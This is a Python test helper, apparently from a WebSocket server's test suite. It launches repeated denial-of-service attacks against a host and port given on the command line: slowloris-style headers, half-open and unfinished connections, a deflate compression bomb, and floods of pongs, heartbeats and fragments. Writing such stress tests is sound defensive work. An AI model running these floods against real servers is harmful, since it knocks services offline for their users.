"""Who attacks, in a process of its own: `python -m tests.attacks.attacker KIND HOST PORT`.

It goes on until it is ended. What the server closes it opens again.
"""

import asyncio
import sys
import zlib
from collections.abc import Awaitable, Callable
from contextlib import suppress

from tests.rfc6455.wire import CONT, PONG, TEXT, frame, handshake

Attack = Callable[[asyncio.StreamReader, asyncio.StreamWriter], Awaitable[None]]

PATH = "/socket/websocket?vsn=2.0.0"
HEARTBEAT = frame(TEXT, b'[null,"1","phoenix","heartbeat",{}]')
FOREVER = 600.0  # seconds


async def open_websocket(
    reader: asyncio.StreamReader, writer: asyncio.StreamWriter, *lines: str
) -> None:
    writer.write(handshake(PATH, *lines))
    await reader.readuntil(b"\r\n\r\n")


async def say(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, data: bytes) -> None:
    """Say something again and again, as fast as it goes, and read what comes."""
    reading = asyncio.create_task(reader.read())
    try:
        while not reading.done():
            writer.write(data)
            await writer.drain()
            await asyncio.sleep(0)
    finally:
        reading.cancel()


async def endless_header(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    writer.write(b"GET / HTTP/1.1\r\nHost: a\r\nX: ")
    await say(reader, writer, b"x" * 1_000)


async def slow_header(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    writer.write(b"GET / HTTP/1.1\r\nHost: a\r\nX: ")
    while not reader.at_eof():
        writer.write(b"x")
        await writer.drain()
        await asyncio.sleep(0.05)


async def silent(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    await reader.read()


async def half_open(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    await open_websocket(reader, writer)
    writer.write(frame(TEXT, b"abc", fin=False)[:-1])
    writer.write_eof()
    await reader.read()


async def unfinished(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    await open_websocket(reader, writer)
    for number in range(10):
        writer.write(frame(CONT if number else TEXT, b"a" * 90_000, fin=False))
        await writer.drain()
    await reader.read()


async def bombs(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    await open_websocket(reader, writer, "Sec-WebSocket-Extensions: permessage-deflate")
    deflate = zlib.compressobj(wbits=-12)
    data = deflate.compress(b"[" * 900_000) + deflate.flush(zlib.Z_SYNC_FLUSH)
    await say(reader, writer, frame(TEXT, data[:-4], rsv=4))


async def pongs(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    await open_websocket(reader, writer)
    await say(reader, writer, frame(PONG) * 2_000)


async def heartbeats(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    await open_websocket(reader, writer)
    await say(reader, writer, HEARTBEAT * 300)


async def fragments(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    await open_websocket(reader, writer)
    writer.write(frame(TEXT, fin=False))
    await say(reader, writer, frame(CONT, fin=False) * 2_000)


ATTACKS: dict[str, tuple[Attack, int]] = {
    "endless header": (endless_header, 8),
    "slow header": (slow_header, 100),
    "silent": (silent, 500),
    "half-open": (half_open, 50),
    "unfinished": (unfinished, 50),
    "bombs": (bombs, 5),
    "pongs by one": (pongs, 1),
    "pongs by fifty": (pongs, 50),
    "heartbeats by one": (heartbeats, 1),
    "heartbeats by fifty": (heartbeats, 50),
    "fragments by one": (fragments, 1),
    "fragments by fifty": (fragments, 50),
}


async def keep_at_it(attack: Attack, host: str, port: int) -> None:
    while True:
        with suppress(OSError, asyncio.IncompleteReadError):
            reader, writer = await asyncio.open_connection(host, port)
            try:
                await attack(reader, writer)
            finally:
                writer.close()
        await asyncio.sleep(0.02)


async def main(kind: str, host: str, port: int) -> None:
    attack, count = ATTACKS[kind]
    attacks = [asyncio.create_task(keep_at_it(attack, host, port)) for _ in range(count)]
    sys.stdout.write("attacking\n")
    sys.stdout.flush()
    await asyncio.wait(attacks, timeout=FOREVER)


if __name__ == "__main__":
    asyncio.run(main(sys.argv[1], sys.argv[2], int(sys.argv[3])))
